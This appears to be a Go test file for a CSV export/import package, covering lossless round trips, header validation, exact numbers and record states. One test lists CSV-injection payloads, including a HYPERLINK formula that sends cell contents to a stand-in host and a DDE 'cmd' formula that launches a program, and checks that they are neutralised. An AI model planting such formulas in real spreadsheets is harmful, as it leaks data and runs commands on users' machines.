package csvjob

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/svc-directory/svc/proof"
)

var testSchema = map[string]any{"type": "object", "properties": map[string]any{
	"email": map[string]any{"type": "string"},
	"age":   map[string]any{"type": "integer"},
	"score": map[string]any{"type": "number"},
	"ok":    map[string]any{"type": "boolean"},
	"tags":  map[string]any{"type": "array"},
	"address": map[string]any{"type": "object", "properties": map[string]any{
		"city": map[string]any{"type": "string"},
		"zip":  map[string]any{"type": "string"},
	}},
}}

// Every kind of value goes out as a cell and comes back as it was, typed by the schema or
// not: strings that read as JSON, empty strings, nested objects, keys that cannot be column
// names, arrays, null, numbers in exponent form.
func TestRowsReadBackAsTheyWereWritten(t *testing.T) {
	records := []map[string]any{
		{"email": "a@example.com", "age": 42.0, "score": 1.5, "ok": true, "tags": []any{"x", 1.0},
			"address": map[string]any{"city": "Zürich", "zip": "08001"}},
		{"email": "", "score": 1e21, "ok": false, "tags": []any{}, "address": map[string]any{"zip": "007"}},
		{"email": "123", "free": "123", "free2": "true", "free3": " 4", "nothing": nil, "n": 2.25,
			"weird": map[string]any{"a key": 1.0, "b": "c"}, "empty": map[string]any{}, "deep": map[string]any{"x": map[string]any{"y": "z"}}},
		{"free": "plain text, with \"quotes\"\nand a newline", "free2": `""x`, "list": []any{map[string]any{"k": "v"}}},
		{"email": `""`, "address": map[string]any{"city": `"quoted"`, "zip": `"`}, "free": `""`},
	}
	cols := NewColumns()
	for _, d := range records {
		if err := cols.Add(d); err != nil {
			t.Fatal(err)
		}
	}
	header := cols.Header()
	if header[0] != NameColumn {
		t.Fatalf("header %v", header)
	}
	layout, err := ParseHeader(header, testSchema)
	if err != nil {
		t.Fatalf("the export's header is refused: %v (%v)", err, header)
	}
	for i, d := range records {
		state := []string{"live", "draft"}[i%2]
		row, err := Row(header, testSchema, "r", state, d)
		if err != nil {
			t.Fatal(err)
		}
		name, gotState, got, err := layout.Record(row)
		if err != nil || name != "r" || gotState != state {
			t.Fatalf("record %d: %s, %s, %v", i, name, gotState, err)
		}
		a, _ := proof.Canonicalize(d)
		b, _ := proof.Canonicalize(got)
		if string(a) != string(b) {
			t.Fatalf("record %d:\nwrote %s\nread  %s\nrow %q", i, a, b, row)
		}
	}
}

func TestHeaderAndCellRefusals(t *testing.T) {
	for _, h := range [][]string{
		{"email"},                      // no record_name
		{"record_name", "record_name"}, // twice
		{"record_name", "a", "a"},      // a path twice
		{"record_name", "a b"},         // not a path
		{"record_name", "a", "a.b"},    // inside another
		{"record_name", "a..b"},        // empty name
		{"record_name", "x\x00"},       // NUL
		{"record_name", "record_state", "record_state"},
	} {
		if _, err := ParseHeader(h, testSchema); err == nil {
			t.Errorf("header %q was taken", h)
		}
	}
	l2, err := ParseHeader([]string{NameColumn, "email"}, testSchema)
	if err != nil {
		t.Fatal(err)
	}
	l, err := ParseHeader([]string{"\ufeffrecord_name", "age", "ok", "tags"}, testSchema)
	if err != nil {
		t.Fatalf("a header with a byte-order mark: %v", err)
	}
	for _, row := range [][]string{{"r", "forty", "", ""}, {"r", "", "yes", ""}, {"r", "", "", "[1,"}, {"r", "1"}} {
		if _, _, _, err := l.Record(row); err == nil {
			t.Errorf("row %q was taken", row)
		}
	}
	// A string column takes a cell in quotation marks as the JSON string it reads as, and
	// anything else as it is.
	for cell, want := range map[string]string{`"quoted"`: "quoted", `""`: "", `"a"b"`: `"a"b"`, `"x`: `"x`, `a "b"`: `a "b"`} {
		_, _, d, err := l2.Record([]string{"r", cell})
		if err != nil || d["email"] != want {
			t.Errorf("email cell %q reads %q (%v), want %q", cell, d["email"], err, want)
		}
	}
	for _, key := range []string{"a key", "record_name", "record_state"} {
		if err := NewColumns().Add(map[string]any{key: 1.0}); err == nil {
			t.Fatalf("the top-level key %q became a column", key)
		}
	}
}

// Number cells follow the exactness rule of JSON bodies: nothing is silently rounded.
func TestNumberCellsAreExact(t *testing.T) {
	l, err := ParseHeader([]string{"record_name", "age", "score"}, testSchema)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ age, score, want string }{
		{"9007199254740993", "", "9007199254740993"},             // beyond 2^53-1
		{"", "0.10000000000000000001", "0.10000000000000000001"}, // more digits than a float64 keeps
		{"", "1e400", "1e400"},
		{"forty", "", "not a number"},
	} {
		if _, _, _, err := l.Record([]string{"r", c.age, c.score}); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("age %q score %q: %v", c.age, c.score, err)
		}
	}
	_, _, d, err := l.Record([]string{"r", "9007199254740991", "-1.5e-3"})
	if err != nil || d["age"] != 9007199254740991.0 || d["score"] != -0.0015 {
		t.Fatalf("exact numbers: %v, %v", d, err)
	}
}

// Cells a spreadsheet would run as formulas (OWASP: =, +, -, @, tab, carriage return at the
// start) are exported with a quotation mark before them, in every column and in the header,
// and read back as they were: the round trip stays lossless, values that begin with a mark
// included.
func TestFormulaCellsAreNeutralisedAndReadBack(t *testing.T) {
	hostile := []string{"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
		"=cmd|' /C calc'!A0", "'=1", "''=1", "'+", "'", "''", "'plain", "-", "=", "a=b", " =1"}
	records := []map[string]any{}
	for i, v := range hostile {
		records = append(records, map[string]any{"email": v, "free": v, "n": -float64(i) - 0.5, "tags": []any{v},
			"address": map[string]any{"city": v}})
	}
	records = append(records, map[string]any{"-dash": "x", "-n": map[string]any{"-m": "=y"}})
	cols := NewColumns()
	for _, d := range records {
		if err := cols.Add(d); err != nil {
			t.Fatal(err)
		}
	}
	header := cols.Header()
	var out strings.Builder
	w := csv.NewWriter(&out)
	head := make([]string, len(header))
	for i, h := range header {
		head[i] = neutralise(h)
	}
	if err := w.Write(head); err != nil {
		t.Fatal(err)
	}
	for i, d := range records {
		row, err := Row(header, testSchema, fmt.Sprintf("r%d", i), "live", d)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("the cell %q reaches a spreadsheet as a formula", cell)
			}
		}
	}
	layout, err := ParseHeader(rows[0], testSchema)
	if err != nil {
		t.Fatalf("the neutralised header %q: %v", rows[0], err)
	}
	for i, row := range rows[1:] {
		_, _, got, err := layout.Record(row)
		if err != nil {
			t.Fatalf("row %d %q: %v", i, row, err)
		}
		a, _ := proof.Canonicalize(records[i])
		b, _ := proof.Canonicalize(got)
		if string(a) != string(b) {
			t.Errorf("row %d:\nwrote %s\nread  %s\ncells %q", i, a, b, row)
		}
	}
	// A hand-made cell that begins with a mark and no formula character is read as it is.
	l, _ := ParseHeader([]string{NameColumn, "email"}, testSchema)
	if _, _, d, err := l.Record([]string{"r", "'tis"}); err != nil || d["email"] != "'tis" {
		t.Fatalf("'tis reads %v, %v", d, err)
	}
}

// The record_state column imports live and draft records, and refuses suspended, revoked and
// expired ones, so that an export uploaded again never makes them live.
func TestRecordStateColumn(t *testing.T) {
	l, err := ParseHeader([]string{NameColumn, StateColumn, "email"}, testSchema)
	if err != nil {
		t.Fatal(err)
	}
	for cell, want := range map[string]string{"": "live", "live": "live", "draft": "draft"} {
		if _, st, _, err := l.Record([]string{"r", cell, "a@example.com"}); err != nil || st != want {
			t.Errorf("record_state %q: %s, %v; want %s", cell, st, err, want)
		}
	}
	for _, cell := range []string{"suspended", "revoked", "expired", "LIVE", "deleted"} {
		if _, st, _, err := l.Record([]string{"r", cell, "a@example.com"}); err == nil {
			t.Errorf("record_state %q imported as %s", cell, st)
		}
	}
}
